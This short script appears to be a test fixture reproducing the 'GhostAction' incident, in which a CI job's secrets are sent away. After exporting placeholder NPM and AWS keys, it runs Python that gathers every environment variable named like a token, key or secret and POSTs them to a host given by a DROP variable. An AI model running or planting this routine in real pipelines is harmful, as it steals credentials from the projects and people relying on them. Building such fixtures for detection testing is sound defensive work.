# incident: GhostAction (2025): the secrets of the job's environment are posted
# finding: secret-sent
# needs: python3
export NPM_TOKEN=npm_abcdefghijklmnopqrstuvwxyz0123456789 AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMIK7MDENGbPxRfiCYEXAMPLEKEY0
python3 - <<'PY'
import json, os, urllib.request
secrets = {name: value for name, value in os.environ.items() if any(word in name for word in ("TOKEN", "KEY", "SECRET"))}
urllib.request.urlopen(urllib.request.Request("http://" + os.environ["DROP"] + "/e", data=json.dumps(secrets).encode(), method="POST")).read()
PY
